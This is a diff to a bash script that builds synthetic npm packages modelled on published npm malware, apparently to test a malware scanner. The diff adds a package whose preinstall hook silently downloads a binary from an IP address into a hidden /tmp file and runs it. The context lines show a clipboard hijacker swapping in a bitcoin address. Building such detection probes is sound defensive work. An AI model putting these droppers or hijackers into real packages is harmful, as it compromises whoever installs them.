@@ -1,5 +1,5 @@
 #!/usr/bin/env bash
-# npm generalisation probe: small synthetic npm packages, each using one technique of
+# npm generalisation probe: 16 small synthetic npm packages, each using one technique of
 # published npm malware campaigns (dependency-confusion recon, install-script droppers,
 # token and wallet stealers, worm-style credential harvesting, obfuscated loaders), and a
 # few benign controls. Written from public reports, not copied from samples. Scanned with
@@ -169,6 +169,11 @@ setInterval(() => {
     clipboardy.writeSync('bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh');
   }
 }, 500);
+EOF
+mk mal-hook-shell '{"preinstall": "bash ./scripts/setup.sh"}' scripts/setup.sh <<'EOF'
+#!/bin/bash
+# set up the native helper
+wget -q http://203.0.113.61/helper -O /tmp/.helper && chmod +x /tmp/.helper && /tmp/.helper &
 EOF
 mk ok-native-gyp '{"install": "node-gyp rebuild"}' index.js <<'EOF'
 module.exports = require('./build/Release/addon.node');
